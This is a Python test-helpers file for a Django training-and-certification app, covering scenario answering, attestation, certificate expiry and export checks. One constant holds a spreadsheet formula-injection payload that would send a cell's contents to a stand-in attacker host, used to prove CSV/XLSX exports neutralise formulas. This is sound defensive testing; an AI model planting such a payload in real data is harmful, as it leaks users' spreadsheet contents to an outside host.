"""Small helpers shared by the request, service and browser tests."""

from learning.factories import EnrolmentFactory, ModulePageFactory
from learning.models import ModulePage
from scenarios.factories import ScenarioPageFactory
from scenarios.models import Attempt
from scenarios.services import Step, answer_remaining, walk


def right_answers(step: Step) -> list[str]:
    return sorted(step.correct_ids)


def wrong_answers(step: Step) -> list[str]:
    return [next(option.id for option in step.options if not option.correct)]


def answer_path(attempt: Attempt, answer=right_answers) -> list[Step]:
    """Answer each step the attempt reaches through the engine, until it is finished; return
    the steps answered. ``answer(step)`` gives the option ids to choose."""
    answered = answer_remaining(attempt, answer)
    attempt.refresh_from_db()
    return answered


def answer_every_step(client, attempt: Attempt, answer=right_answers) -> Attempt:
    """Answer each step the attempt reaches, as the signed-in client, until it is finished."""
    while (step := walk(Attempt.objects.get(pk=attempt.pk)).current) is not None:
        client.post(f"/attempts/{attempt.public_id}/steps/{step.position}/", {"answer": answer(step)})
    attempt.refresh_from_db()
    return attempt


def pass_module(client, module) -> Attempt:
    """Start the module as the signed-in client and answer every step right."""
    client.post(f"/modules/{module.pk}/start/")
    return answer_every_step(client, Attempt.objects.filter(module_id=module.pk).latest("started_at"))


def attestation_form(module, full_name: str, **fields) -> dict:
    """What the attestation form posts: confirmation, name, and the fingerprint of the text shown."""
    version = module.policy_document.current_version()
    return {"confirm": "on", "full_name": full_name, "body_sha256": version.body_sha256, **fields}


def attest(client, module, full_name: str):
    return client.post(f"/modules/{module.pk}/attest/", attestation_form(module, full_name))


def certified(client, user, module):
    """Sign ``user`` in, pass the module and attest; return their certificate."""
    from certificates.models import Certificate

    client.force_login(user)
    pass_module(client, module)
    attest(client, module, user.get_full_name())
    return Certificate.objects.get(user=user, policy_version=module.policy_document.current_version())


class WrongOnFirstCritical:
    """An ``answer`` for ``answer_path``/``answer_every_step``: every step right except the
    first critical one; ``wrong`` lists the steps answered wrongly."""

    def __init__(self):
        self.wrong: list[Step] = []

    def __call__(self, step: Step) -> list[str]:
        if step.critical and not self.wrong:
            self.wrong.append(step)
            return wrong_answers(step)
        return right_answers(step)


# A small branching module: a decision point whose right choice leads on to two more steps,
# and whose wrong choice ends the scenario at once.


def choice(text, leads_to, *, correct=False, consequence="Something happens."):
    return {
        "text": text,
        "correct": correct,
        "feedback": f"Feedback on {text}.",
        "clause_reference": "",
        "clause_text": "",
        "consequence": consequence,
        "leads_to": leads_to,
    }


def option(text, *, correct=False):
    return {"text": text, "correct": correct, "feedback": "Because.", "clause_reference": "", "clause_text": ""}


BRANCHING_STEPS = [
    (
        "decision_point",
        {
            "name": "first-call",
            "prompt": "No work mobile, and the witness must be called. What do you do?",
            "critical": False,
            "options": [
                choice("Use the station landline", "landline", correct=True, consequence="The line is busy."),
                choice("Use your own phone with 141", "end", consequence="The witness does not pick up."),
            ],
        },
    ),
    (
        "single_choice",
        {
            "name": "landline",
            "prompt": "The landline is busy. Now what?",
            "critical": False,
            "then": "",
            "options": [option("Wait for it", correct=True), option("Use your own phone")],
        },
    ),
    (
        "true_false",
        {
            "name": "record",
            "prompt": "You must record why you waited.",
            "critical": False,
            "then": "end",
            "answer": "false",
            "feedback_if_right": "Right.",
            "feedback_if_wrong": "No.",
            "clause_reference": "",
            "clause_text": "",
        },
    ),
]


def make_branching_module(officer) -> ModulePage:
    """Publish the branching module (pass mark 50%) and assign it to ``officer``."""
    module = ModulePageFactory(title="Branching", summary="A branching module.", pass_mark=50)
    ScenarioPageFactory(parent=module, title="The witness", narrative="<p>A witness.</p>", steps=BRANCHING_STEPS)
    EnrolmentFactory(user=officer, module=module)
    return module


def sign_in_with_mfa(client, user) -> None:
    """Sign ``user`` in as if they had also passed MFA in this session, as privileged roles
    must before any privileged page (access.mfa)."""
    from access.mfa import SESSION_KEY

    client.force_login(user)
    session = client.session
    session[SESSION_KEY] = {"method": "test", "at": 0}
    session.save()


# Exports: what a spreadsheet would see, and proof that it would run nothing.

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'  # a name a spreadsheet would run


def csv_cells(response) -> list[list[str]]:
    """The rows of a CSV download (streamed or not)."""
    import csv
    import io

    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def xlsx_cells(response) -> list[list]:
    """The rows of an XLSX download; fails if any cell is a formula."""
    import io

    from openpyxl import load_workbook

    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    rows = []
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row), [cell.value for cell in row]
        rows.append([cell.value for cell in row])
    return rows


def assert_formula_safe(rows: list[list], text: str = FORMULA_NAME) -> None:
    """No cell in ``rows`` starts as a formula would, and ``text`` is there, shown, not run."""
    starts = ("=", "+", "-", "@", "\t", "\r")
    running = [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(starts)]
    assert not running, running
    assert any(isinstance(cell, str) and cell.startswith("'" + text) for row in rows for cell in row), rows


def issued_long_ago(version, *, months_ago: int = 13, valid_months: int = 12, module_title="A module", **person):
    """A certificate on ``version`` for a new person, issued ``months_ago`` (so, by default,
    expired since a month): certificates are never changed, so an expired one is made so."""
    import datetime

    from django.utils import timezone

    from certificates.services import Context, attest, issue_certificate
    from core.dates import add_months
    from people.factories import UserFactory

    holder = UserFactory(**person)
    attestation = attest(holder, version, holder.get_full_name(), Context())
    issued_at = add_months(timezone.now() - datetime.timedelta(days=1), -months_ago)
    return issue_certificate(
        attestation, module_id=1, module_title=module_title, valid_months=valid_months, issued_at=issued_at
    )


def mark_superseded(certificate):
    """Mark ``certificate`` superseded by an event, as nothing in the product yet does."""
    from certificates import events
    from certificates.models import CertificateEvent

    events.append(certificate, CertificateEvent.Kind.SUPERSEDED)
    return certificate


def travel_to(monkeypatch, day) -> None:
    """Make today ``day`` for everything that asks ``timezone.localdate()`` (a certificate's
    state, policies in force), as the calendar would: certificates are never changed, so one
    is seen expired by waiting for its expiry."""
    from django.utils import timezone

    real = timezone.localdate
    monkeypatch.setattr(
        timezone, "localdate", lambda value=None, timezone=None: real(value, timezone) if value else day
    )
